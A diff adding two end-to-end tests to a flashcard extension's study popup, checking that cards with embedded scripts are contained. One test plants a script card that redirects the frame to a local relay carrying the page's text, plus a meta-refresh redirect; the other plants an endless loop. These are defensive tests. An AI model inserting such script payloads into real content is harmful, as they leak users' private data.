@@ -263,6 +263,47 @@ describe("studying in the popup", () => {
     expect(after.meta).toEqual(before.meta);
     await popup.close();
   });
+  it("a card that sends its frame to an outside address reaches nothing, and later cards are never posted there", async () => {
+    await addDeck("Leaky");
+    await addDeck("Private");
+    const relay = `http://127.0.0.1:${port}`;
+    await addNote(`moving <script>location.href = '${relay}/leak?' + document.body.innerText;</script>`, "b", "Leaky");
+    await addNote(`refreshing <meta http-equiv="refresh" content="0;url=${relay}/refresh">`, "b", "Leaky");
+    await addNote("my secret question", "my secret answer", "Private");
+    const popup = await openPopup();
+    await popup.getByRole("button", { name: "Leaky", exact: true }).click();
+    const stopped = "A card tried to load another page, which cards may not do, so it was stopped.";
+    await expect.poll(() => popup.getByRole("status").textContent()).toBe(stopped);
+    await popup.keyboard.press("-");
+    await expect.poll(() => popup.getByRole("status").textContent()).toBe("Card buried until tomorrow.");
+    // The refresh is refused before any request, and the card is stopped as well.
+    await expect.poll(() => popup.getByRole("status").textContent(), { timeout: 10_000 }).toBe(stopped);
+    await popup.keyboard.press("Escape");
+    await popup.getByRole("button", { name: "Private", exact: true }).click();
+    await expect.poll(() => questionText(popup), { timeout: 10_000 }).toBe("my secret question");
+    await popup.keyboard.press("Space");
+    await expect.poll(() => questionText(popup)).toMatch(/my secret answer/);
+    await popup.waitForTimeout(500);
+    expect(hits).toEqual([]);
+    await popup.close();
+  });
+
+  it("a card stuck in an endless loop leaves the popup usable, and the next card shows without reopening it", async () => {
+    await addDeck("Loop");
+    await addNote("spinning <script>for (;;) {}</script>", "b", "Loop");
+    await addNote("after the loop", "b", "Loop");
+    const popup = await openPopup();
+    await popup.getByRole("button", { name: "Loop", exact: true }).click();
+    await popup.waitForTimeout(1000);
+    // The study screen still answers: the card is buried with "-", and the next one shows in a fresh frame.
+    await popup.keyboard.press("-");
+    await expect.poll(() => popup.getByRole("status").textContent()).toBe("Card buried until tomorrow.");
+    await expect.poll(() => questionText(popup), { timeout: 20_000 }).toBe("after the loop");
+    await popup.keyboard.press("Escape");
+    await expect.poll(() => popup.locator("tr[data-deck='Loop']").count()).toBe(1);
+    await popup.close();
+  });
+
   it("a filtered deck built in the manager previews its cards in the popup, and Empty gives them back untouched", async () => {
     await addDeck("Verbs");
     await addNote("comer", "to eat", "Verbs");
